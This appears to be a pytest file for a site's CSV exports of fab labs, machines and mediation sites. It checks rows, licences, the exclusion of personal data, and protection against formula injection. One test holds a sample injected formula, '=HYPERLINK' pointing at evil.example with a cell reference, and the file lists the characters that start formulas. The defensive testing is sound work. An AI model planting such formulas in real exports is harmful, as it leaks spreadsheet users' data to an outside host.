"""The tables tell what the labs' files say: whole rows worked out by hand from the samples."""

import csv
import io
import json
from pathlib import Path

import pytest
from pages_kit import Answering

from server.exports.columns import Table
from server.exports.labs import LABS
from server.exports.machines import MACHINES
from server.exports.mednum import MEDNUM
from server.exports.write import unguarded

EXPECTED = Path(__file__).parent / "expected"


def rows(site: Answering, path: str) -> dict[str, dict[str, str]]:
    """Rows by their first column, as the file has them."""
    text = site.get(path).get_data(as_text=True)
    return {next(iter(row.values())): row for row in csv.DictReader(io.StringIO(text, newline=""))}


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("/labs.csv", "labs.json"),
        ("/machines.csv", "machines.json"),
        ("/exports/lieux-mediation-numerique.csv", "lieux-mediation-numerique.json"),
    ],
)
def test_rows(site: Answering, path: str, expected: str) -> None:
    found = rows(site, path)
    for row in json.loads((EXPECTED / expected).read_text(encoding="utf-8")):
        first = next(iter(row.values()))
        assert found[first] == dict.fromkeys(found[first], "") | row


@pytest.mark.parametrize(
    ("path", "table"),
    [("/labs.csv", LABS), ("/machines.csv", MACHINES), ("/exports/lieux-mediation-numerique.csv", MEDNUM)],
)
def test_head(site: Answering, path: str, table: Table[object]) -> None:
    head = site.get(path).get_data(as_text=True).splitlines()[0]
    assert [name.strip('"') for name in head.split(",")] == table.names


def test_every_published_lab_and_machine_is_there(site: Answering) -> None:
    labs, machines = rows(site, "/labs.csv"), rows(site, "/machines.csv")
    entities = {source.slug: source.entities for source in map(site.small.source, (r["slug"] for r in labs.values()))}
    assert len(entities) == 19
    assert {row["lab_slug"] for row in machines.values()} < set(entities)
    assert all(iri in entities[row["lab_slug"]] for iri, row in machines.items())
    assert sum(int(row["machines"]) for row in labs.values()) == len(machines)


def test_every_row_says_source_licence_and_fetch(site: Answering) -> None:
    for path in ("/labs.csv", "/machines.csv"):
        for row in rows(site, path).values():
            assert row["source_url"].startswith("https://")
            assert row["fetched_at"] == "2026-11-26T09:00:00Z"
            assert row["attribution"]
    licences = {row["slug"]: row["licence"] for row in rows(site, "/labs.csv").values()}
    assert (licences["gier"], licences["forez"], licences["bruxelles"]) == ("etalab-2.0", "CC-BY-SA-4.0", "ODbL-1.0")


@pytest.mark.parametrize("path", ["/labs.csv", "/machines.csv", "/labs.geojson", "/machines.geojson"])
def test_persons_and_serial_numbers_stay_out(site: Answering, path: str) -> None:
    text = site.get(path).text
    for secret in ("SECRET", "FL6040-2291", "MF-0417", "Prénomsecret", "Camille", "Youssef"):
        assert secret not in text


def test_a_machine_of_another_lab_stays_out(site: Answering) -> None:
    machines = rows(site, "/machines.csv")
    assert machines["https://gier.example/fablab.jsonld#laser-1"]["lab_slug"] == "gier"
    assert [row["lab_slug"] for iri, row in machines.items() if "hostile" in iri] == ["hostile"]


@pytest.mark.parametrize("path", ["/labs.csv", "/machines.csv", "/exports/lieux-mediation-numerique.csv"])
def test_no_cell_is_a_formula(site: Answering, path: str) -> None:
    for row in rows(site, path).values():
        for name, cell in row.items():
            assert name in ("phone", "telephone", "latitude", "longitude") or cell[:1] not in tuple("=+-@\t\r")
            assert len(cell.splitlines()) <= 1


def test_marked_names_come_back(site: Answering) -> None:
    lab = rows(site, "/labs.csv")["https://formules.example/fablab.jsonld#lab"]
    assert lab["name"].startswith("'=HYPERLINK(")
    assert unguarded(lab["name"]) == '=HYPERLINK("https://evil.example/"&A1;"clic")'


def test_pages_are_where_the_table_says(site: Answering) -> None:
    for path in ("/labs.csv", "/machines.csv"):
        for row in rows(site, path).values():
            assert site.get(row["page_url"].removeprefix("https://commons.example")).status_code == 200
